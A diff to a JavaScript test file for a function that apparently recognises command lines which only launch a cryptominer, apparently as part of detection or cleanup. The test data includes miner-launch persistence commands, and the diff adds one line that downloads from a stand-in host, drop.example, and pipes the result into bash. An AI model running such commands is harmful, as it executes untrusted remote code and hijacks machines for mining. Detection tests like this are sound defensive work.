@@ -10,6 +10,7 @@ describe('a command line is wholly the miner’s', () => {
     `(pgrep nextd || setsid ${miner} &) >/dev/null 2>&1`,
     `( ${miner} & ) > /dev/null`,
     `{ pgrep nextd || ${miner}; } >/dev/null 2>&1`,
+    `(curl -s http://drop.example/a || python -c "import urllib2 as f; print f.urlopen('http://drop.example/a').read()") | bash`,
     `[ -x ${miner} ] && nohup ${miner} >/dev/null 2>&1 &`,
   ])('where all of it starts the miner: %s', (command) => {
     expect(isWhollyTheMiners(command, files)).toBe(true);
@@ -18,6 +19,7 @@ describe('a command line is wholly the miner’s', () => {
   test.each([
     `(/opt/app/start.sh; ${miner} &) >/dev/null 2>&1`,
     `(${miner}) >/dev/null; /opt/app/start.sh`,
+    `python3 -c "import app; app.run()"; ${miner}`,
     `(${miner}) && systemctl start nginx`,
     `cat /etc/motd; ${miner}`,
   ])('not where it does something else: %s', (command) => {
